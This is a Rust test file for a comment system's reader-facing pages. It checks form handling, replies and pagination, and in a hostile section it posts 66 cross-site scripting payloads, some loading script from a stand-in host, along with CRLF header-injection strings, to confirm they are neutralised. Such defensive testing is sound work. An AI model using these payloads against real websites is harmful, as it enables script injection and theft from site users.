//! The pages readers see: the form without script, and what hostile comments make of them, which is nothing.

use rejoinder::kit::clock::Millis;
use reqwest::Method;
use serde_json::{Value, json};

use crate::support::markup::{Tag, assert_clean_comment, assert_clean_page, decode};
use crate::support::server::{NOON, TestApp};
use crate::support::{Answer, Setup, form, on_each_database, on_each_database_with};

const PAGE: &str = "/sites/main/articles/a";
const POLICY: &str =
    "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";

/// A page, strictly read.
#[track_caller]
fn tags(answer: &Answer) -> Vec<Tag> {
    assert_eq!(answer.header("content-type"), Some("text/html; charset=utf-8"), "{}", answer.text());
    assert_eq!(answer.header("content-security-policy"), Some(POLICY));
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(answer.header("x-frame-options"), Some("DENY"));
    assert_clean_page(answer.text())
}

fn input<'tags>(tags: &'tags [Tag], name: &str) -> Option<&'tags Tag> {
    tags.iter().find(|tag| ["input", "textarea"].contains(&tag.name.as_str()) && tag.attribute("name") == Some(name))
}

fn value<'tags>(tags: &'tags [Tag], name: &str) -> Option<&'tags str> {
    input(tags, name)?.attribute("value")
}

/// What stands in the form's text area.
fn typed_comment(answer: &Answer) -> String {
    let (_, rest) = answer.text().split_once("<textarea").expect("a text area");
    let (_, rest) = rest.split_once('>').expect("its start");
    let text = rest.split_once("</textarea>").expect("its end").0;
    // The parser drops one line break at the start.
    decode(text.strip_prefix('\n').unwrap_or(text))
}

/// The sentence beside a wrong field.
fn error_of(answer: &Answer, field: &str) -> Option<String> {
    let (_, rest) = answer.text().split_once(&format!("<p class=\"error\" id=\"reply-{field}-error\">"))?;
    Some(rest.split_once("</p>")?.0.to_owned())
}

async fn get_html(app: &TestApp, path: &str) -> Answer {
    Answer::of(app.request(Method::GET, path).header("accept", "text/html")).await
}

const GOOD: [(&str, &str); 3] = [("name", "Ada"), ("email", "ada@example.org"), ("comment", "Well said.")];

fn good_but(field: &'static str, value: &'static str) -> Vec<(&'static str, &'static str)> {
    let others = GOOD.into_iter().filter(|(name, _)| *name != field);
    others.chain([(field, value)]).collect()
}

mod without_script {
    use super::*;

    #[test]
    fn a_held_comment_leads_to_its_receipt() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            let answer = app.post_form(&article, &GOOD).await.expect(303);
            assert!(answer.body.is_empty());
            assert_eq!(answer.header("cache-control"), Some("no-store"));
            let location = answer.header("location").unwrap();
            assert!(location.starts_with(&format!("{}/receipts/", app.base)), "{location}");
            let receipt = get_html(app, &location.replace(&app.base, "")).await.expect(200);
            tags(&receipt);
            assert!(receipt.text().contains("Your comment is waiting for review"));
            assert!(receipt.text().contains("<p>Well said.</p>"));
        });
    }

    #[test]
    fn a_published_comment_leads_to_where_it_stands() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            app.publish_first().await;
            let answer = app.post_form(&article, &GOOD).await.expect(303);
            let location = answer.header("location").unwrap().replace(&app.base, "");
            let (path, anchor) = location.split_once('#').expect("an anchor");
            assert!(path.starts_with(&format!("{PAGE}?comment=")), "{path}");
            let page = get_html(app, path).await.expect(200);
            assert!(tags(&page).iter().any(|tag| tag.attribute("id") == Some(anchor)));
        });
    }

    #[test]
    fn the_form_on_the_page_is_the_form_that_is_taken() {
        on_each_database(async |app| {
            app.article("a").await;
            let page = get_html(app, PAGE).await.expect(200);
            assert_eq!(page.header("cache-control"), Some("no-store"));
            assert_eq!(page.header("etag"), None);
            let tags = tags(&page);
            let form = tags.iter().find(|tag| tag.name == "form").expect("a form");
            assert_eq!(form.attribute("method"), Some("post"));
            let action = form.attribute("action").unwrap().strip_prefix(&app.base).expect("an absolute address");
            let article = action.strip_suffix("/comments").expect("the article's comments");
            for name in ["name", "email", "url", "comment", "submission"] {
                assert!(input(&tags, name).is_some(), "{name}");
            }
            let nonce = value(&tags, "submission").unwrap();
            let fields = [&GOOD[..], &[("submission", nonce), ("url", "")]].concat();
            let first = app.post_form(article, &fields).await.expect(303);
            let second = app.post_form(article, &fields).await.expect(303);
            assert_eq!(first.header("location"), second.header("location"));
            let again = get_html(app, PAGE).await.expect(200);
            assert_ne!(value(&self::tags(&again), "submission"), Some(nonce), "a nonce of its own for each form");
        });
    }

    #[test]
    fn a_wrong_field_comes_back_with_what_was_typed_and_what_would_be_right() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            let typed = [
                ("name", "Ada \"the first\" <Lovelace>"),
                ("email", "not an 'email'"),
                ("url", "example.org/<x>"),
                ("comment", "\n  A long text,\n\nwith \"quotes\" & <b>tags</b> </textarea>"),
                ("submission", "used"),
            ];
            let answer = app.post_form(&article, &typed).await.expect(422);
            assert_eq!(answer.header("cache-control"), Some("no-store"));
            let tags = tags(&answer);
            for (name, typed) in &typed[..3] {
                assert_eq!(value(&tags, name), Some(*typed));
            }
            assert_eq!(typed_comment(&answer), typed[3].1);
            assert_eq!(error_of(&answer, "email").unwrap(), "Give an email address such as reader@example.org.");
            assert!(error_of(&answer, "url").unwrap().starts_with("Give a web address"));
            assert_eq!((error_of(&answer, "name"), error_of(&answer, "comment")), (None, None));
            let email = input(&tags, "email").unwrap();
            assert_eq!(email.attribute("aria-invalid"), Some("true"));
            assert_eq!(email.attribute("aria-describedby"), Some("reply-email-error"));
            assert_ne!(value(&tags, "submission"), Some("used"));
            assert!(answer.text().contains("<title>Problem: "));
            // Every field can be the wrong one.
            for (field, wrong) in
                [("name", "a\u{202e}b"), ("comment", " "), ("url", "javascript:alert(1)"), ("email", "x@y")]
            {
                let answer = app.post_form(&article, &good_but(field, wrong)).await.expect(422);
                assert!(error_of(&answer, field).is_some(), "{field}");
            }
        });
    }

    #[test]
    fn what_was_said_before_comes_back_as_a_form() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            app.post_form(&article, &GOOD).await.expect(303);
            let answer = app.post_form(&article, &GOOD).await.expect(409);
            let tags = tags(&answer);
            assert!(answer.text().contains("You have already sent exactly this text to this article."));
            assert_eq!((value(&tags, "name"), typed_comment(&answer)), (Some("Ada"), "Well said.".to_owned()));
        });
    }

    #[test]
    fn a_form_sent_again_with_another_text_comes_back_as_a_form() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            // Back in the browser, the text changed, sent again: the form still carries the nonce it came with.
            let with_nonce = |text: &'static str| [good_but("comment", text), vec![("submission", "nonce")]].concat();
            app.post_form(&article, &with_nonce("My first thought.")).await.expect(303);
            let answer = app.post_form(&article, &with_nonce("My second thought.")).await.expect(422);
            let tags = tags(&answer);
            assert_eq!(typed_comment(&answer), "My second thought.");
            assert!(answer.text().contains("This form was sent before"));
            assert!(!answer.text().contains("Idempotency-Key"));
            let nonce = value(&tags, "submission").unwrap().to_owned();
            let fresh = [good_but("comment", "My second thought."), vec![("submission", nonce.as_str())]].concat();
            app.post_form(&article, &fresh).await.expect(303);
        });
    }

    #[test]
    fn other_problems_are_pages_with_their_status() {
        let setup = Setup { has_limits: true, ..Setup::default() };
        on_each_database_with(&setup, async |app| {
            let article = app.article("a").await;
            app.change_article("a", false, None).await;
            let closed = app.post_form(&article, &GOOD).await.expect(403);
            tags(&closed);
            assert!(closed.text().contains("Comments are closed"));
            let missing = app.post_form("/api/v1/sites/main/articles/none", &GOOD).await.expect(404);
            tags(&missing);
            tags(&get_html(app, "/sites/main/articles/none").await.expect(404));
            tags(&get_html(app, "/receipts/none").await.expect(404));
            tags(&get_html(app, &format!("{PAGE}?cursor=x")).await.expect(400));
            for _ in 0..3 {
                app.post_form(&article, &GOOD).await.expect(403);
            }
            let too_fast = app.post_form(&article, &GOOD).await.expect(429);
            tags(&too_fast);
            assert!(too_fast.header("retry-after").is_some());
        });
    }
}

mod replying {
    use super::*;

    #[test]
    fn the_form_answers_the_comment_it_was_opened_for() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            app.publish_first().await;
            let root = app.posted(&article, &form("root")).await;
            let plain = get_html(app, PAGE).await.expect(200);
            assert!(input(&tags(&plain), "parent_id").is_none());
            let links = tags(&plain);
            let reply = links.iter().find(|tag| tag.attribute("class") == Some("reply")).expect("a link to reply");
            let href = reply.attribute("href").unwrap().replace(&app.base, "");
            assert_eq!(href, format!("{PAGE}?reply_to={root}#reply"));
            let page = get_html(app, href.trim_end_matches("#reply")).await.expect(200);
            assert_eq!(value(&tags(&page), "parent_id"), Some(root.to_string().as_str()));
            assert!(page.text().contains("In reply to"));
            let id = root.to_string();
            let fields = [&GOOD[..], &[("parent_id", id.as_str())]].concat();
            app.post_form(&article, &fields).await.expect(303);
            let tree = app.get(&format!("{article}/comments")).await.json();
            assert_eq!(tree["items"][0]["children"][0]["parent_id"], root);
            // A wrong reply is still a reply when it comes back.
            let wrong = [("name", "Ada"), ("email", "x"), ("comment", "x"), ("parent_id", id.as_str())];
            let answer = app.post_form(&article, &wrong).await.expect(422);
            assert_eq!(value(&tags(&answer), "parent_id"), Some(id.as_str()));
        });
    }

    #[test]
    fn what_cannot_be_answered_is_not_offered() {
        on_each_database(async |app| {
            let (article, admin) = (app.article("a").await, app.admin().await);
            app.publish_first().await;
            let gone = app.posted(&article, &form("gone")).await;
            app.decide(&admin, gone, 1, "reject").await.expect(201);
            let mut deepest = app.posted(&article, &form("level 0")).await;
            for level in 1..5 {
                let mut body = form(&format!("level {level}"));
                body["parent_id"] = json!(deepest);
                deepest = app.posted(&article, &body).await;
            }
            for id in [gone, deepest, 999_999] {
                let page = get_html(app, &format!("{PAGE}?reply_to={id}")).await.expect(200);
                assert!(input(&tags(&page), "parent_id").is_none(), "{id}");
                let id = id.to_string();
                let answer = app.post_form(&article, &[&GOOD[..], &[("parent_id", &id)]].concat()).await.expect(422);
                assert!(answer.text().contains("Reply to a published comment on this article"));
                assert_eq!(typed_comment(&answer), "Well said.");
            }
            let page = get_html(app, PAGE).await.expect(200);
            assert!(!page.text().contains(&format!("reply_to={deepest}")));
            for nonsense in ["x", "-1", "", "1e9", "%00", "99999999999999999999"] {
                tags(&get_html(app, &format!("{PAGE}?reply_to={nonsense}&comment={nonsense}")).await.expect(200));
            }
        });
    }

    #[test]
    fn a_closed_article_says_so_and_has_no_form() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            app.publish_first().await;
            app.posted(&article, &form("said in time")).await;
            let close_at = Millis(NOON.0 + 60_000);
            app.change_article("a", true, Some(close_at)).await;
            let open = get_html(app, PAGE).await.expect(200);
            assert!(input(&tags(&open), "comment").is_some());
            app.advance(60);
            let closed = get_html(app, PAGE).await.expect(200);
            assert!(tags(&closed).iter().all(|tag| tag.name != "form"));
            assert!(closed.text().contains("Comments on this article are closed."));
            assert!(closed.text().contains("<p>said in time</p>"));
            assert!(!closed.text().contains("reply_to="));
        });
    }
}

mod reading {
    use super::*;

    #[test]
    fn a_link_to_a_comment_opens_where_it_stands() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            app.publish_first().await;
            let mut ids = Vec::new();
            for count in 0..60 {
                ids.push(app.posted(&article, &form(&format!("number {count}"))).await);
            }
            let mut reply = form("a reply to the last");
            reply["parent_id"] = json!(ids[59]);
            let reply = app.posted(&article, &reply).await;
            let shows = |answer: &Answer, id: i64| answer.text().contains(&format!("id=\"comment-{id}\""));
            let first = get_html(app, PAGE).await.expect(200);
            assert!(shows(&first, ids[49]) && !shows(&first, ids[50]));
            for id in [ids[0], ids[49], ids[50], ids[59], reply] {
                let page = get_html(app, &format!("{PAGE}?comment={id}")).await.expect(200);
                tags(&page);
                assert!(shows(&page, id), "{id}");
                let one = app.get(&format!("/api/v1/comments/{id}")).await.expect(200).json();
                assert_eq!(one["permalink"], format!("{}{PAGE}?comment={id}#comment-{id}", app.base));
            }
            let links = tags(&first);
            let more = links.iter().filter_map(|tag| tag.attribute("href")).find(|href| href.contains("cursor="));
            let second = get_html(app, &more.expect("more comments").replace(&app.base, "")).await.expect(200);
            assert!(!shows(&second, ids[49]) && shows(&second, ids[50]) && shows(&second, reply));
        });
    }

    #[test]
    fn the_style_sheet_comes_from_us() {
        on_each_database(async |app| {
            app.article("a").await;
            let links = tags(&get_html(app, PAGE).await.expect(200));
            let sheet = links.iter().find(|tag| tag.attribute("rel") == Some("stylesheet")).expect("a style sheet");
            let css = app.get(&sheet.attribute("href").unwrap().replace(&app.base, "")).await.expect(200);
            assert!(css.header("content-type").unwrap().starts_with("text/css"));
        });
    }
}

mod hostile {
    use super::*;

    /// What has been tried elsewhere: PEERS.md's list, the usual polyglots, and what confuses Markdown.
    const PAYLOADS: [&str; 66] = [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<script\u{0c}>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href='x' onclick='alert(1)'>x</a>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css'</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<form action=//evil.example><button>x</button></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<%= 1 %>{{7*7}}${7*7}{% raw %}",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "x\" autofocus onfocus=alert(1) x=\"",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;script&amp;gt;",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](<javascript:alert(1)>)",
        "![x](https://evil.example/track.gif \"onerror=alert(1)\")",
        "[x](https://evil.example/\"onmouseover=\"alert(1))",
        "[x](https://evil.example/ \"t\" onmouseover=alert(1) \")",
        "<https://evil.example/\"onmouseover=\"alert(1)>",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "> quote\n<script>alert(1)</script>",
        "```html\"onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "`</code><script>alert(1)</script>`",
        "https://evil.example/'onmouseover='alert(1)'<script>",
        "\u{feff}<script>alert(1)</script>\u{202e}",
    ];

    /// Posts a payload in every field that takes it; gives the comment's id, its receipt, and in how many.
    async fn attack(app: &TestApp, article: &str, count: usize, payload: &str) -> (i64, String, usize) {
        let short = |limit: usize| payload[..payload.floor_char_boundary(limit)].to_owned();
        let mut body = json!({
            "name": short(245),
            "email": format!("\"{}\"@example.org", short(40)),
            "url": format!("https://evil.example/{}", short(170)),
            "comment": format!("{payload}\n\nnumber {count}\n\n{payload}"),
        });
        let answer = app.post(article, &body).await;
        let mut fields = 4;
        let answer = if answer.status == 422 {
            let refused = answer.json();
            for error in refused["errors"].as_array().expect("errors") {
                let (name, instead) = match error["pointer"].as_str().expect("a pointer") {
                    "/name" => ("name", json!("Ada")),
                    "/email" => ("email", json!("ada@example.org")),
                    "/url" => ("url", json!(null)),
                    other => panic!("{other} was refused for {payload:?}"),
                };
                body[name] = instead;
                fields -= 1;
            }
            app.post(article, &body).await
        } else {
            answer
        };
        let taken = answer.expect(202).json();
        let receipt = taken["receipt_url"].as_str().expect("a receipt").replace(&app.base, "");
        (taken["id"].as_i64().expect("an id"), receipt, fields)
    }

    fn assert_clean_everywhere(items: &Value) {
        for item in items.as_array().expect("items") {
            assert_clean_comment(item["html"].as_str().expect("html"));
            if let Some(url) = item["author"]["url"].as_str() {
                assert!(url.starts_with("https://evil.example/"), "{url}");
            }
        }
    }

    #[test]
    fn nothing_that_was_sent_becomes_markup_on_any_surface() {
        on_each_database(async |app| {
            let (article, admin) = (app.article("a").await, app.admin().await);
            let (mut posted, mut fields) = (Vec::new(), 0);
            for (count, payload) in PAYLOADS.iter().enumerate() {
                let (id, receipt, taken) = attack(app, &article, count, payload).await;
                fields += taken;
                posted.push((id, receipt));
            }
            assert!(fields > PAYLOADS.len() * 2, "names and websites were tried too, not only refused: {fields}");
            // What waits is the attack on moderators.
            let queue = app.get_as(&admin, "/api/v1/review/comments?limit=100").await.expect(200);
            assert_eq!(queue.header("content-type"), Some("application/json"));
            assert_eq!(queue.header("x-content-type-options"), Some("nosniff"));
            assert_clean_everywhere(&queue.json()["items"]);
            for (item, payload) in queue.json()["items"].as_array().unwrap().iter().zip(PAYLOADS) {
                assert!(item["text"].as_str().unwrap().starts_with(payload), "kept as it was sent");
            }
            for (id, receipt) in &posted {
                tags(&get_html(app, receipt).await.expect(200));
                app.decide_with(&admin, *id, 1, &json!({ "decision": "approve", "message": PAYLOADS[0] }))
                    .await
                    .expect(201);
            }
            let list = app.get(&format!("{article}/comments?limit=100")).await.expect(200);
            assert_eq!(list.json()["items"].as_array().unwrap().len(), PAYLOADS.len());
            assert_clean_everywhere(&list.json()["items"]);
            for (id, receipt) in &posted {
                let page = get_html(app, &format!("{PAGE}?comment={id}&reply_to={id}")).await.expect(200);
                let tags_of_page = tags(&page);
                assert!(tags_of_page.iter().any(|tag| tag.attribute("id") == Some(&format!("comment-{id}"))));
                tags(&get_html(app, receipt).await.expect(200));
                let one = app.get(&format!("/api/v1/comments/{id}")).await.expect(200).json();
                assert_clean_comment(one["html"].as_str().unwrap());
            }
        });
    }

    #[test]
    fn a_form_that_comes_back_is_no_echo_of_markup() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            for payload in PAYLOADS {
                let fields = [("name", payload), ("email", payload), ("url", payload), ("comment", payload)];
                let answer = app.post_form(&article, &fields).await.expect(422);
                let tags = tags(&answer);
                assert_eq!(value(&tags, "email").map(str::trim), Some(payload.trim()), "{payload:?}");
                assert_eq!(typed_comment(&answer).replace("\r\n", "\n"), payload, "{payload:?}");
            }
        });
    }

    #[test]
    fn a_path_or_query_is_not_echoed_as_markup() {
        on_each_database(async |app| {
            app.article("a").await;
            for path in [
                "/sites/main/articles/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/sites/%22%3E%3Cscript%3E/articles/a",
                "/receipts/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/problems/%3Cscript%3E",
                "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/sites/main/articles/a?cursor=%22%3E%3Cscript%3E",
                "/api/v1/sites/main/articles/a/comments?sort=%3Cscript%3E",
            ] {
                let answer = get_html(app, path).await;
                assert!(answer.status >= 400, "{path}");
                tags(&answer);
                assert!(!answer.text().contains("alert(1)"), "{path}");
            }
        });
    }

    #[test]
    fn line_breaks_make_no_header() {
        on_each_database(async |app| {
            let article = app.article("a").await;
            for publishes in [false, true] {
                if publishes {
                    app.publish_first().await;
                }
                for break_ in ["\r\n", "\n", "\r", "\u{85}", "\u{2028}", "\u{560a}"] {
                    let injected = format!("x{break_}X-Injected: 1{break_}{break_}<script>");
                    for field in ["name", "email", "url", "comment", "submission", "parent_id"] {
                        let unlike = format!("{publishes} {field} {break_:?}");
                        let mut fields: Vec<(&str, &str)> =
                            vec![("name", "Ada"), ("email", "ada@example.org"), ("comment", &unlike)];
                        fields.retain(|(name, _)| *name != field);
                        fields.push((field, &injected));
                        let answer = app.post_form(&article, &fields).await;
                        assert!([303, 409, 422].contains(&answer.status), "{field}: {}", answer.text());
                        assert!(answer.header("x-injected").is_none(), "{field}");
                        for (name, value) in &answer.headers {
                            assert!(!String::from_utf8_lossy(value.as_bytes()).contains("njected"), "{field}: {name}");
                        }
                        if answer.status == 422 {
                            tags(&answer);
                        }
                    }
                }
            }
            for path in [
                "/sites/main/articles/a%0d%0aX-Injected:%201",
                "/sites/main/articles/a?comment=1%0d%0aX-Injected:%201",
                "/sites/main/articles/a?cursor=%0d%0aX-Injected:%201",
                "/receipts/%0d%0aX-Injected:%201",
                "/api/v1/sites/main/articles/a/comments?limit=1%0d%0aX-Injected:%201",
                "/api/v1/sites/main/counts?article=a%0d%0aX-Injected:%201",
            ] {
                let raw = app
                    .send_raw(format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").into_bytes())
                    .await;
                let head = raw.split_once("\r\n\r\n").expect("a head").0;
                assert!(!head.to_lowercase().contains("injected"), "{head}");
            }
        });
    }
}

#[test]
fn a_browser_that_posts_too_fast_keeps_what_was_typed() {
    on_each_database_with(&Setup { has_limits: true, ..Setup::default() }, async |app| {
        let article = app.article("a").await;
        for number in 0..5 {
            app.post(&article, &form(&format!("number {number}"))).await.expect(202);
        }
        let typed = [("name", "Ada"), ("email", "ada@example.org"), ("comment", "Half an hour of <b>thought</b>")];
        let answer = app.post_form(&article, &typed).await.expect(429);
        assert_eq!(answer.header("retry-after"), Some("15"));
        assert_eq!(answer.header("ratelimit"), Some("\"address\";r=0;t=15"));
        tags(&answer);
        assert!(answer.text().contains("Half an hour of &#60;b&#62;thought&#60;/b&#62;"), "{}", answer.text());
        assert!(answer.text().contains("Wait 15 s"), "{}", answer.text());
        app.advance(15);
        app.post_form(&article, &typed).await.expect(303);
    });
}
